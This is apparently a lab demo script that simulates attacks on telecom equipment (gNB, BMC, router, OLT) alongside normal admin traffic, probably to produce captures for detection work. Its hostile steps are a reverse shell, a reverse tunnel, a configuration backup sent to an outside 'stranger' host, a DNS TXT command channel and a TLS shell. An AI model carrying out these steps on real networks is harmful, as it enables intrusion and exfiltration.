# SPDX-License-Identifier: Apache-2.0
# The demo: all four at work; a gNB gives a reverse shell, a BMC a reverse tunnel, a router betrays its configuration, an OLT its names.
start_management
add_host stranger collector open-resolver
start_sshd stranger 22 22222
start_tftp_server stranger
start_trap_receiver collector
start_resolver open-resolver --address=/relay.example/203.0.113.50 --txt-record=task.relay.example,"sleep 3600"
start_capture
start_gnb
start_router
start_olt
start_bmc
everybody() { gnb_round "$1"; router_round "$1"; olt_round "$1"; bmc_round "$1"; }
for round in 1 2 3 4; do everybody "$round"; sleep 3; done
# An ordinary morning.
administer gnb-0117 'uptime' &
telnet_session jump "${address[olt-03]}" 'uptime'
gnb_pm_file
router_backup "${address[files]}"
ftp_upload olt-03 "${address[files]}" pm-0015.csv on
everybody 5
# And what should not be.
reverse_shell gnb-0117 4444
everybody 6
router_backup "${address[stranger]}"
send_trap edge-07 "${address[collector]}" $traps.5
everybody 7
ssh_reverse_tunnel bmc-12
on olt-03 dig +short @"${address[open-resolver]}" task.relay.example TXT >/dev/null
everybody 8
ssh_out edge-07 22222
tls_shell bmc-12 443 TLS1.2
everybody 9
